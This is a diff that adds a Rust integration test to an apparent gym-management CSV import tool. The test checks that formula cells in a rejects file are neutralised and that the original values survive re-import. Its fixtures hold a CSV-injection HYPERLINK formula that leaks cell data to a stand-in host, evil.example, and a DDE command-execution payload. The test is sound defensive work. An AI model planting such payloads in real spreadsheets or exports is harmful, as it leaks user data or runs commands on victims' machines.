@@ -338,3 +338,44 @@ async fn a_constant_the_gyms_zone_cannot_read_is_refused() {
     );
     assert_eq!(app.get(&gym.live_key, "/attendance").await.body["meta"]["total"], 0);
 }
+
+/// A refused row's cells that a spreadsheet program would run as formulas are neutralised in the
+/// rejects file (OWASP's leading `'`), and the rejects file, fixed and imported, gives back the
+/// original values.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_rejects_file_is_safe_to_open_and_imports_the_original_values() {
+    let app = TestApp::spawn().await;
+    let gym = app.gym("Formulas").await;
+    let dir = tempfile::tempdir().unwrap();
+    let hyperlink = r#"=HYPERLINK("http://evil.example/leak?"&C2,"Click")"#;
+    let mut w = csv::Writer::from_path(dir.path().join("members.csv")).unwrap();
+    w.write_record(["legacy_id", "first_name", "last_name", "email", "phone", "city"]).unwrap();
+    w.write_record(["M1", "Ada", "Lovelace", "ada@example.com", "", ""]).unwrap();
+    w.write_record(["M2", "'quoted", hyperlink, "not-an-email", "+49 170 1234567", "=cmd|' /C calc'!A0"]).unwrap();
+    w.flush().unwrap();
+    drop(w);
+    let (file, rejects) = (dir.path().join("members.csv"), dir.path().join("rejects.csv"));
+    let args = ["--entity", "members", "--json", "--rejects", path(&rejects), path(&file)];
+    let out = import(&app, &gym.live_key, &args).await;
+    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!((summary["created"].as_i64(), summary["rejected"].as_u64()), (Some(1), Some(1)), "{summary}");
+
+    let written = std::fs::read_to_string(&rejects).unwrap();
+    let mut reader = csv::Reader::from_reader(written.trim_start_matches('\u{feff}').as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    for cell in &row {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in the rejects file: {cell:?}");
+    }
+    assert_eq!(&row[2], format!("'{hyperlink}"));
+
+    std::fs::write(&rejects, written.replace("not-an-email", "m2@example.com")).unwrap();
+    let again = ["--entity", "members", "--json", path(&rejects)];
+    let summary: Value = serde_json::from_slice(&import(&app, &gym.live_key, &again).await.stdout).unwrap();
+    assert_eq!(summary["created"].as_i64(), Some(1), "{summary}");
+    let found = app.get(&gym.live_key, "/members?search=m2@example.com").await.body;
+    let m = &found["data"][0];
+    assert_eq!(
+        (m["first_name"].as_str(), m["last_name"].as_str(), m["phone"].as_str(), m["city"].as_str()),
+        (Some("'quoted"), Some(hyperlink), Some("+49 170 1234567"), Some("=cmd|' /C calc'!A0"))
+    );
+}
